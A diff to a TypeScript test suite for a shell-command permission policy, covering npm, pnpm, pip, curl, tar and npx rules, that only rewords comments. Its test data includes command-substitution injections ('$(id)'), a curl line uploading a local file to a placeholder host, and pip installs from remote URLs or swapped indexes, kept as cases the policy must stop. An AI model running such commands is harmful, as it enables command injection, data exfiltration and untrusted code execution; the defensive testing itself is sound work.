@@ -9,7 +9,7 @@ import { cpuClock } from '../../cpuTime.ts';
 import { everyOtherIsQuick, firstIsQuick } from '../../e2e/support/long.ts';
 import { bash, policyFor, root } from '../harness.ts';
 
-/** A rule, the calls that it covers, and those that it does not, though its text does. */
+/** A rule, the calls it covers, and calls that only its text covers. */
 const rules: Readonly<
   Record<string, { readonly covers?: readonly string[]; readonly stops?: readonly string[] }>
 > = {
@@ -1137,7 +1137,7 @@ const rules: Readonly<
 
 /** Options that are harmless with some values, or in some places, with other ones. */
 const others: Readonly<Record<string, readonly string[]>> = {
-  // What a script is given, pnpm up to 9 and npm 6 to 8.11 put between double quotes for a shell.
+  // pnpm up to 9 and npm 6 to 8.11 pass a script's arguments to a shell in double quotes.
   pnpm: [
     "pnpm test '$(id)'",
     "pnpm test '`id`'",
@@ -1428,11 +1428,11 @@ const others: Readonly<Record<string, readonly string[]>> = {
     "curl -F 'a=x;headers=@a.txt' http://h",
   ],
 };
-/** Runners of a project's tools, and code that comes from an address: what a rule for them covers, and what it does not. */
+/** Runners of a project's tools, and code from a URL: what a rule for them covers, and what it does not. */
 const runners: Readonly<
   Record<string, { readonly covers: readonly string[]; readonly stops: readonly string[] }>
 > = {
-  // npm reads what stands behind the tool as its own, up to `--`.
+  // npm reads options after the tool as its own, up to `--`.
   'npm exec tsc': {
     covers: ['npm exec tsc', 'npm exec tsc -- --noEmit', 'npm exec tsc -- --outDir dist'],
     stops: [
@@ -1499,7 +1499,7 @@ const runners: Readonly<
       "pip install 'x @ https://x/y.whl'",
       'pip install -r https://x/y.txt',
       'pip install -c https://x/y.txt',
-      // pip takes every beginning of a name.
+      // pip accepts every prefix of a name.
       'pip install --index-u=http://x y',
       'pip install --extra-i http://x y',
       'pip install --targ=src x',
@@ -1738,7 +1738,7 @@ const places: typeof runners = {
       'tar cf kept.tgz src',
     ],
   },
-  // Only what stands in front of a folder is left out of it.
+  // Only exclusions before a folder apply to it.
   'tar czf': {
     covers: [
       "tar czf new.tgz --exclude='.env*' --exclude '*.key' --exclude=secret .",
@@ -1890,7 +1890,7 @@ const places: typeof runners = {
   'npx tsc': { covers: ['npx tsc --outDir dist'], stops: ['npx tsc --outDir bin', 'npx tsc --outDir src'] },
 };
 describe('places and hosts', () => {
-  // What git keeps is no result of a build, whatever its name.
+  // A tracked file is not build output, whatever its name.
   const kept = ['bin/kept', 'kept.tgz', 'kept.log'].map((name) => join(root, name));
   beforeAll(() => {
     for (const path of [...kept, ...['old.tgz', 'build.log', '-'].map((name) => join(root, name))]) {
